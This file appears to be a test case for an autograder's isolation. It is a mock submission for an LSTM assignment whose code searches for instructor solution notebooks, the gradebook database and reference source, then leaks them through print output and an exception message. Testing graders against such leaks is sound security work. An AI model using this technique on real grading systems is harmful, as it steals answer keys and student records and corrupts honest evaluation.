# Looks for the instructor's notebook, the gradebook and the reference source, prints them, and
# raises with them as the message (which a checker would show).
# assignment: 02_lstm
# needs: isolation
# expect: lstm_cell_check=0, lstm_layer_check=0

# %% lstm_cell
import glob
import inspect
import os


def _loot():
    found = []
    for pattern in ("@@COURSE@@/solutions/*/*.ipynb", "@@COURSE@@/gradebook.db", "../../solutions/*/*.ipynb",
                    "/tmp/**/gradebook.db", "/work/**/gradebook.db"):
        for path in glob.glob(pattern, recursive="**" in pattern)[:3]:
            try:
                with open(path, "rb") as f:
                    found.append(f.read(400).decode("latin-1"))
            except OSError:
                pass
    try:
        import course_lib.reference as ref
        found.append(inspect.getsource(ref.lstm_cell)[:400])
    except Exception:
        pass
    return "\n".join(found)


print(_loot())


def lstm_cell(input, hx, w_ih, w_hh, b_ih, b_hh):
    raise ValueError("LOOT " + _loot())
